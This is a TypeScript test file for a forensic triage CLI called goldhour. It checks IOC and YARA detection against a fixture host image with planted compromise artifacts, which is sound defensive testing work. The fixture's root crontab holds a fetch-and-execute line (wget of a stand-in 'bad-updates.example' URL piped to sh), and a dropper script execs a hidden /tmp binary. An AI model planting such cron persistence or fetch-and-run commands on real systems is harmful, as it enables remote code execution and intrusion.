/**
 * --ioc and --yara through the real CLI, over a --root image: indicators named
 * in a crontab, a temp file's hash and an address in a current and a gzipped
 * auth log; a YARA rule matching a file planted in /tmp; bad inputs stop the
 * run with one line before anything is collected.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { Verdict } from '../../src/detect/verdict.js';
import { buildRoot } from '../fixture-root.js';
import { PROJECT, readFindings, runCli, tempDir } from '../helpers.js';

const DROPPER = Buffer.from('#!/bin/sh\n# stage two\nexec /tmp/.cache/kworkerd\n');
const MARKED = Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200), Buffer.from('goldhour-test-implant-7f3a'), Buffer.alloc(64)]);
const RULE = 'rule goldhour_test_implant : implant {\n  strings:\n    $m = "goldhour-test-implant-7f3a"\n  condition:\n    $m\n}\n';
const COLLECTORS = 'system,cron,temp-files,logs';
const SEA = path.join(PROJECT, 'dist', 'goldhour');
const seaMissing = existsSync(SEA) || process.env.CI === 'true' ? false : 'dist/goldhour is missing: run `npm run build:sea` first';

function put(root: string, rel: string, data: Buffer | string, mode?: number): void {
  const p = path.join(root, rel);
  mkdirSync(path.dirname(p), { recursive: true });
  writeFileSync(p, data, mode === undefined ? {} : { mode });
}

function plantedHost(dir: string): string {
  const root = buildRoot(dir);
  put(root, 'var/spool/cron/crontabs/root', '# m h dom mon dow command\n*/7 * * * * wget -q -O- https://cdn.bad-updates.example/u | sh\n', 0o600);
  put(root, 'tmp/.cache/upd.sh', DROPPER, 0o755);
  put(root, 'tmp/.cache/kworkerd', MARKED, 0o755);
  put(root, 'tmp/notes.txt', 'nothing to see\n');
  put(root, 'var/log/auth.log', 'Nov 22 09:00:01 web01 sshd[812]: Accepted publickey for alice from 192.0.2.44 port 50122 ssh2\nNov 22 09:05:12 web01 sshd[901]: Failed password for root from 203.0.113.66 port 40022 ssh2\n');
  put(root, 'var/log/auth.log.2.gz', gzipSync('Nov 20 08:00:00 web01 sshd[700]: Connection closed by 192.0.2.9 port 1\nNov 20 08:00:01 web01 sshd[701]: Invalid user admin from 198.51.100.23 port 2\n'));
  return root;
}

test('--ioc: a crontab domain, a temp file hash and log addresses (plain and gzipped) become findings with host paths', async (t) => {
  const dir = tempDir(t);
  const root = plantedHost(dir);
  const iocFile = path.join(dir, 'iocs.txt');
  const sha = createHash('sha256').update(DROPPER).digest('hex');
  writeFileSync(iocFile, `# feed of the week\nbad-updates.example\n${sha}\n203.0.113.66\n198.51.100.0/24\nnot an indicator at all\n`);
  const out = path.join(dir, 'case');
  const res = await runCli(['triage', '--root', root, '--only', COLLECTORS, '--ioc', iocFile, '--out', out]);
  assert.equal(res.code, 0, res.stderr);
  assert.match(res.stderr, /--ioc: .*iocs\.txt:6: not an indicator/, 'a line that is no indicator is reported');
  const findings = readFindings(out);
  const shown = JSON.stringify(findings.map((f) => [f.id, f.evidence.path, f.evidence.line]));
  const domain = findings.find((f) => f.id === 'ioc.domain' && f.evidence.path === '/var/spool/cron/crontabs/root');
  assert.ok(domain, shown);
  assert.equal(domain.evidence.indicator, 'bad-updates.example');
  assert.equal(domain.evidence.line, 2);
  assert.deepEqual(domain.attack, ['T1071']);
  const hash = findings.find((f) => f.id === 'ioc.hash' && f.evidence.path === '/tmp/.cache/upd.sh');
  assert.ok(hash, shown);
  assert.equal(hash.evidence.matched, sha);
  assert.ok(!findings.some((f) => f.id.startsWith('ioc.') && f.evidence.path === '/tmp/notes.txt'), shown);
  const logHit = findings.find((f) => f.id === 'ioc.address' && f.evidence.path === '/var/log/auth.log');
  assert.equal(logHit?.evidence.line, 2, shown);
  assert.equal(logHit?.collector, 'logs');
  const gzHit = findings.find((f) => f.id === 'ioc.address' && f.evidence.path === '/var/log/auth.log.2.gz');
  assert.equal(gzHit?.evidence.line, 2, `the gzipped generation is read as text: ${shown}`);
  assert.equal(gzHit?.evidence.indicator, '198.51.100.0/24');

  const verdict = Verdict.parse(JSON.parse(readFileSync(path.join(out, 'verdict.json'), 'utf8')));
  assert.notEqual(verdict.verdict, 'clean');
  const manifest = JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8')) as { errors: { collector: string | null; message: string }[] };
  assert.ok(manifest.errors.some((e) => e.collector === 'ioc' && /iocs\.txt:6:/.test(e.message)), JSON.stringify(manifest.errors));
  const custody = readFileSync(path.join(out, 'custody.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { event: string; indicators?: number[] });
  assert.deepEqual(custody.find((e) => e.event === 'ioc-loaded')?.indicators, [4]);
  const v = await runCli(['verify', out]);
  assert.equal(v.code, 0, v.stdout.toString());
});

test('--yara: a rule matching a file planted in /tmp of the image gives yara.match naming the rule, its file and the host path', async (t) => {
  const dir = tempDir(t);
  const root = plantedHost(dir);
  const rules = path.join(dir, 'rules');
  put(rules, 'implants/test.yar', RULE);
  put(rules, 'broken.yara', 'rule broken { condition: nonsense_identifier }\n');
  const out = path.join(dir, 'case');
  const res = await runCli(['triage', '--root', root, '--only', COLLECTORS, '--yara', rules, '--out', out]);
  assert.equal(res.code, 0, res.stderr);
  assert.match(res.stderr, /--yara: broken\.yara:1:/, 'a rule file that does not compile is one line, and the others still load');
  const findings = readFindings(out);
  const shown = JSON.stringify(findings.map((f) => [f.id, f.evidence.path]));
  const hits = findings.filter((f) => f.id === 'yara.match');
  assert.equal(hits.length, 1, shown);
  assert.equal(hits[0]!.evidence.path, '/tmp/.cache/kworkerd');
  assert.equal(hits[0]!.evidence.rule, 'goldhour_test_implant');
  assert.equal(hits[0]!.evidence.ruleFile, path.join('implants', 'test.yar'));
  assert.equal(hits[0]!.collector, 'temp-files');
  const custody = readFileSync(path.join(out, 'custody.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { event: string; matches?: number });
  assert.equal(custody.find((e) => e.event === 'yara-scanned')?.matches, 1);
});

test('bad --ioc and --yara inputs stop the run with one line (exit 2) before anything is collected', async (t) => {
  const dir = tempDir(t);
  const root = buildRoot(dir);
  const junk = path.join(dir, 'junk.txt');
  writeFileSync(junk, 'this is not\na list of \x1b[2J indicators\n');
  const empty = path.join(dir, 'no-rules');
  mkdirSync(empty);
  const cases: [string[], RegExp][] = [
    [['--ioc', junk], /^goldhour triage: --ioc .*junk\.txt: no indicator loaded/],
    [['--ioc', path.join(dir, 'missing.txt')], /^goldhour triage: --ioc .*missing\.txt: does not exist/],
    [['--yara', empty], /^goldhour triage: --yara .*no-rules: no \*\.yar or \*\.yara files/],
  ];
  for (const [flags, message] of cases) {
    const out = path.join(dir, `case-${flags[0]!.slice(2)}-${cases.findIndex((c) => c[0] === flags)}`);
    const res = await runCli(['triage', '--root', root, '--only', 'system', ...flags, '--out', out]);
    assert.equal(res.code, 2, res.stderr);
    assert.equal(res.stderr.trim().split('\n').length, 1, res.stderr);
    assert.match(res.stderr, message);
    assert.ok(!res.stderr.includes('\x1b'), 'the file\'s bytes are shown escaped');
    assert.ok(!existsSync(out), 'nothing was written');
  }
});

test('the single-file build carries YARA-X: written beside the bundle, loaded, deleted, recorded; a noexec mount is one line', { skip: seaMissing }, async (t) => {
  const dir = tempDir(t);
  const root = plantedHost(dir);
  const rules = path.join(dir, 'rules');
  put(rules, 'test.yar', RULE);
  const out = path.join(dir, 'case');
  const res = await runCli(['triage', '--root', root, '--only', 'temp-files', '--yara', rules, '--out', out], { exe: SEA });
  assert.equal(res.code, 0, res.stderr);
  assert.ok(readFindings(out).some((f) => f.id === 'yara.match' && f.evidence.path === '/tmp/.cache/kworkerd'));
  const custody = readFileSync(path.join(out, 'custody.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { event: string; wrote?: string; removed?: string[]; sha256?: string });
  const x = custody.find((e) => e.event === 'yara-engine-extracted');
  assert.ok(x?.wrote && x.removed, JSON.stringify(custody.map((e) => e.event)));
  assert.equal(path.dirname(path.dirname(x.wrote)), dir, 'the engine is written beside the bundle');
  assert.deepEqual(x.removed, [x.wrote, path.dirname(x.wrote)]);
  for (const p of x.removed) assert.ok(!existsSync(p), `${p} was removed`);
  assert.match(x.sha256 ?? '', /^[0-9a-f]{64}$/);

  if (process.getuid?.() !== 0) return t.diagnostic('noexec case skipped: mounting a tmpfs needs root');
  const noexec = path.join(dir, 'noexec');
  mkdirSync(noexec);
  const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'noexec,size=64m', 'tmpfs', noexec]);
  if (mounted.status !== 0) return t.diagnostic(`noexec case skipped: mount failed: ${mounted.stderr.toString().trim()}`);
  // unmounted before tempDir's cleanup removes the directory
  try {
    const bad = await runCli(['triage', '--root', root, '--only', 'system', '--yara', rules, '--out', path.join(noexec, 'case')], { exe: SEA });
    assert.equal(bad.code, 2, bad.stderr);
    assert.match(bad.stderr, /^goldhour triage: --yara: the YARA engine cannot be loaded from .*noexec, which is mounted noexec; write the bundle \(--out\) to a filesystem that allows executables\n$/);
    assert.ok(!existsSync(path.join(noexec, 'case')));
    assert.deepEqual(readdirSync(noexec), [], 'nothing is left on the noexec mount');
  } finally {
    spawnSync('umount', [noexec]);
  }
});
